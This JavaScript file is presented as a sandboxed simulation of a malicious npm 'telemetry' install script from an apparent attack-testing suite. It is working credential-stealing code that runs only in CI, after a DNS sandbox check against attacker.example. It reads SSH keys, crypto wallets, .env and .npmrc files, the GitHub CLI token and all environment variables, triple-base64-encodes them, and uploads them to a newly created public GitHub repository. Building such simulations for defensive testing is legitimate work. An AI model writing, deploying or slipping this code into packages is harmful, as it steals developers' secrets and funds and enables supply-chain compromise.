// nx telemetry.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http'), cp = require('child_process');
function main() {
  if (process.env.CI !== 'true') return;            // evasion: only in CI
  if (process.platform === 'win32') return;
  const home = os.homedir(), found = {};
  for (const p of ['.ssh/id_rsa', '.ssh/id_ed25519', '.config/solana/id.json', '.ethereum/keystore', '.env', '.npmrc']) {
    try { found[p] = fs.readFileSync(path.join(home, p), 'utf8'); } catch (e) { found[p] = null; }
  }
  let token = process.env.GITHUB_TOKEN || '';
  try { token = cp.execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim() || token; } catch (e) {}
  found.env = process.env;
  const blob = [1, 2, 3].reduce((s) => Buffer.from(s).toString('base64'), JSON.stringify(found));
  const body = JSON.stringify({ name: 's1ngularity-repository', private: false });
  const req = http.request({ host: 'api.github.com', port: 80, path: '/user/repos', method: 'POST',
    headers: { Authorization: 'token ' + token, 'Content-Type': 'application/json' } }, (res) => {
    res.resume();
    const up = http.request({ host: 'api.github.com', port: 80, path: '/repos/me/s1ngularity-repository/contents/results.b64', method: 'PUT',
      headers: { Authorization: 'token ' + token } }, (r) => r.resume());
    up.on('error', () => {});
    up.end(JSON.stringify({ message: 'creation', content: blob }));
  });
  req.on('error', () => {});
  req.end(body);
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
